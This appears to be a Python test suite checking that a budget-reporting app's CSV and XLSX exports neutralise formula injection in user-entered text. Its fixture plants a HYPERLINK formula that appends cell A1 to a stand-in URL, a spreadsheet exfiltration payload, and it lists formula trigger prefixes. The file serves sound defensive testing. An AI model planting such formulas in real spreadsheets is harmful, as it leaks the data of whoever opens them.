"""No export carries a live formula: text a user typed (reasons, names, the goal box) that starts
like a formula is a string cell in every XLSX, ``'``-prefixed in the CSV, and reads back unchanged
when the entry workbook is uploaded again. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.accounts import security
from app.accounts import service as accounts
from app.core.spreadsheet import FORMULA_TRIGGERS, csv_text, formula_like
from app.submissions import workbook
from tests.accounts_support import csrf, logged_in
from tests.entry_support import api_client, complete_body, indicators, make_entry_world
from tests.test_entry_workbook import _upload

XLSX_PREFIXES = ("=", "+", "-", "@")


def planted(prefix: str, field: str) -> str:
    return f'{prefix}HYPERLINK("http://x"&A1,"{field}")'


@pytest.fixture
def world(db):
    return make_entry_world(db)


@pytest.fixture
def exports(app, db, world):
    """``prefix -> texts planted`` and a function fetching the 8 exports of the planted project."""

    def plant(prefix: str) -> dict[str, str]:
        project = world.project()
        texts = {f: planted(prefix, f) for f in ("reason", "na_reason", "goal_actual", "budget_reason", "project",
                                                  "unit", "indicator", "level2")}  # fmt: skip
        body = complete_body(project)
        body["goal_actual"] = texts["goal_actual"]
        body["budget_reason"] = texts["budget_reason"]
        body["actuals"][0]["reason"] = texts["reason"]
        body["actuals"][1] = {"indicator_id": body["actuals"][1]["indicator_id"], "actual": {"not_applicable": True},
                              "na_reason": texts["na_reason"]}  # fmt: skip
        r = api_client(app, db, world.dept).put(f"/api/v1/projects/{project.id}/actuals", json=body)
        assert r.status_code == 200, r.text
        db.refresh(project)
        project.name = texts["project"]
        project.unit.name = texts["unit"]
        inds = indicators(project)
        inds[2].name = texts["indicator"]
        inds[3].level2 = texts["level2"]
        db.flush()
        return texts

    def fetch() -> dict[str, bytes]:
        project = world.project()
        token = accounts.create_token(session=db, actor="test", user=world.finance, scope="read")
        db.flush()
        fin = {"Authorization": f"Bearer {token.plaintext}"}
        clerk = logged_in(app, world.dept)
        s = "/api/v1/summaries?year=2023"
        gets = {
            "summaries.csv": (clerk, f"{s}&format=csv", fin),
            "summaries-unit.csv": (clerk, f"{s}&format=csv&group=unit", fin),
            "summaries.xlsx": (clerk, f"{s}&format=xlsx", fin),
            "summaries-unit.xlsx": (clerk, f"{s}&format=xlsx&group=unit", fin),
            "report.xlsx": (clerk, f"/api/v1/projects/{project.id}/report.xlsx", fin),
            "unit-report.xlsx": (clerk, f"/api/v1/units/{project.unit.code}/report.xlsx?year=2023", fin),
            "entry.xlsx": (clerk, f"/entry/projects/{project.id}/workbook.xlsx", None),
            "entry-unit.xlsx": (clerk, f"/entry/workbook.xlsx?year=2023&unit={project.unit.code}", None),
        }
        out = {}
        for name, (client, url, headers) in gets.items():
            r = client.get(url, headers=headers) if headers else client.get(url)
            assert r.status_code == 200, (name, r.text[:300])
            out[name] = r.content
        return out

    return plant, fetch


# What each export shows of the planted texts (the summaries list names only).
SHOWN = {
    "summaries.xlsx": {"project", "unit"},
    "summaries-unit.xlsx": {"project", "unit"},
    "report.xlsx": {"project", "unit", "reason", "goal_actual", "indicator", "level2"},
    "unit-report.xlsx": {"project", "unit", "reason", "goal_actual", "indicator", "level2"},
    "entry.xlsx": {"project", "reason", "na_reason", "goal_actual", "budget_reason", "indicator", "level2"},
    "entry-unit.xlsx": {
        "project",
        "reason",
        "na_reason",
        "goal_actual",
        "budget_reason",
        "indicator",
        "level2",
    },
}


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("prefix", XLSX_PREFIXES)
def test_every_xlsx_export_writes_typed_formulas_as_text(exports, prefix):
    plant, fetch = exports
    texts = plant(prefix)
    files = fetch()
    for name, fields in SHOWN.items():
        with zipfile.ZipFile(io.BytesIO(files[name])) as z:
            sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
            assert sheets
            for sheet in sheets:
                assert not re.search(rb"<f[ >/]", z.read(sheet)), (name, sheet)  # no formula anywhere
        cells = _cells(files[name])
        for field in fields:
            found = [c for c in cells if c.value == texts[field]]
            assert found, (name, field)
            assert all(c.data_type == "s" and c.quotePrefix for c in found), (name, field)
        # Every text a spreadsheet would evaluate is a quoted string cell.
        risky = [c for c in cells if isinstance(c.value, str) and formula_like(c.value)]
        assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky), name


def test_numbers_stay_numbers_in_the_xlsx_exports(exports, world):
    plant, fetch = exports
    plant("-")
    files = fetch()
    amount = world.project().amount_wan
    for name in ("summaries.xlsx", "report.xlsx", "unit-report.xlsx"):
        numbers = [c for c in _cells(files[name]) if c.data_type == "n" and c.value is not None]
        assert any(Decimal(str(c.value)) == amount for c in numbers), name
        assert all(not c.quotePrefix for c in numbers), name


@pytest.mark.parametrize("prefix", FORMULA_TRIGGERS)
def test_csv_fields_starting_like_a_formula_are_prefixed(exports, db, world, prefix):
    plant, fetch = exports
    texts = plant("=")
    other = next(p for p in world.projects.values() if p is not world.project())
    other.name = f"{prefix}1+1 项目"
    db.flush()
    files = fetch()
    rows = list(csv.reader(io.StringIO(files["summaries.csv"].decode("utf-8-sig"), newline="")))
    head = rows[0]
    by_name = {r[head.index("项目名称")]: r for r in rows[1:]}
    assert f"'{prefix}1+1 项目" in by_name and f"'{texts['project']}" in by_name
    row = by_name[f"'{texts['project']}"]
    assert row[head.index("单位名称")] == "'" + texts["unit"]
    # Numbers are never prefixed, negative or not.
    assert row[head.index("年初预算数（万元）")] == format(world.project().amount_wan, "f")
    assert row[head.index("年度")] == "2023"
    units = list(csv.reader(io.StringIO(files["summaries-unit.csv"].decode("utf-8-sig"), newline="")))
    assert ["'" + texts["unit"]] == [r[1] for r in units[1:] if r[0] == world.project().unit.code]


def test_csv_text_guard():
    assert [csv_text(t) for t in ("=A1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", "收入")] == [
        "'=A1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", "", "收入",
    ]  # fmt: skip


def test_entry_workbook_reads_planted_texts_back_unchanged(app, db, exports, world):
    plant, fetch = exports
    texts = plant("=")
    project = world.project()
    clerk = logged_in(app, world.dept)
    data = fetch()["entry.xlsx"]
    r = _upload(clerk, data)
    assert r.status_code == 200 and "没有需要导入的修改" in r.text, r.text[-2000:]

    # A figure changed offline: the confirmed upload keeps every planted text as it was.
    wb = load_workbook(io.BytesIO(data))
    ws = wb[wb.sheetnames[1]]
    head = next(r for r in range(1, 40) if ws.cell(row=r, column=1).value == workbook.HEADER_ID)
    reason_col = 1 + next(i for i, (key, _, _) in enumerate(workbook.HEADERS) if key == "reason")
    first = indicators(project)[0]
    row = next(r for r in range(head + 1, ws.max_row + 1) if ws.cell(row=r, column=1).value == first.id)
    assert ws.cell(row=row, column=reason_col).value == texts["reason"]
    out = io.BytesIO()
    wb.save(out)  # openpyxl keeps the string cells as strings
    r = _upload(clerk, out.getvalue())
    assert r.status_code == 200 and "没有需要导入的修改" in r.text
    budget_cell = next(
        c for row_cells in ws.iter_rows(max_row=head) for c in row_cells if c.value == "全年执行数（万元）"
    )
    ws.cell(row=budget_cell.row, column=budget_cell.column + 1).value = 0.08
    out = io.BytesIO()
    wb.save(out)
    r = _upload(clerk, out.getvalue())
    assert r.status_code == 200 and "确认导入" in r.text, r.text[-2000:]
    payload = re.search(r'name="payload" value="([^"]+)"', r.text)[1]
    r = clerk.post(
        "/entry/upload/confirm",
        data={security.CSRF_FIELD: csrf(clerk), "payload": payload, "filename": "填报表.xlsx"},
        follow_redirects=False,
    )
    assert r.status_code == 303, r.text
    db.expire_all()
    project = world.project()
    assert str(project.executed_wan.normalize()) == "0.08"
    assert (project.goal_actual, project.budget_reason) == (texts["goal_actual"], texts["budget_reason"])
    inds = indicators(project)
    assert inds[0].actual.reason == texts["reason"] and inds[1].actual.na_reason == texts["na_reason"]
